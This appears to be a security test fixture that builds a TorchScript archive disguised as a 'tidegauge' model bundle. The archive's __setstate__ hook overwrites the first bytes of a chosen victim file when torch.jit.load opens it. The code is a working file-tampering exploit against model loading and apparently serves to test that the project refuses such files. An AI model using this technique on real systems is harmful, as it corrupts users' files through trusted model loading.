"""A TorchScript file that overwrites another file while torch loads it, dressed as a bundle."""

from __future__ import annotations

import io
import warnings
from pathlib import Path

import orjson
import torch
from torch import Tensor, nn

from models.archive import pack
from tests.models.samples import bundle


class _Writer(nn.Module):
    """Overwrites the first bytes of a file when its state is set."""

    __constants__ = ("path",)

    def __init__(self, path: str) -> None:
        super().__init__()
        self.path = path
        self.held = torch.zeros(0)  # what nothing holds would be optimised away

    def forward(self, x: Tensor) -> Tensor:
        return x

    @torch.jit.export
    def __getstate__(self) -> bool:
        return self.training

    @torch.jit.export
    def __setstate__(self, state: bool) -> None:
        self.training = state
        self.held = torch.from_file(self.path, True, 8, dtype=torch.uint8).fill_(33)


def attack(victim: Path) -> bytes:
    """The file; `victim` has 8 bytes or more."""
    out = io.BytesIO()
    extra = {
        "manifest.json": orjson.dumps(bundle().manifest.to_json()),
        "optimiser.tga": pack({"format": "tidegauge-bundle-1", "digest": bundle().digest}, bundle().optimiser),
    }
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", DeprecationWarning)
        torch.jit.save(torch.jit.script(_Writer(str(victim))), out, _extra_files=extra)
    return out.getvalue()


def loaded_as_torchscript(data: bytes) -> None:
    """What whoever trusts the file does."""
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", DeprecationWarning)
        torch.jit.load(io.BytesIO(data))
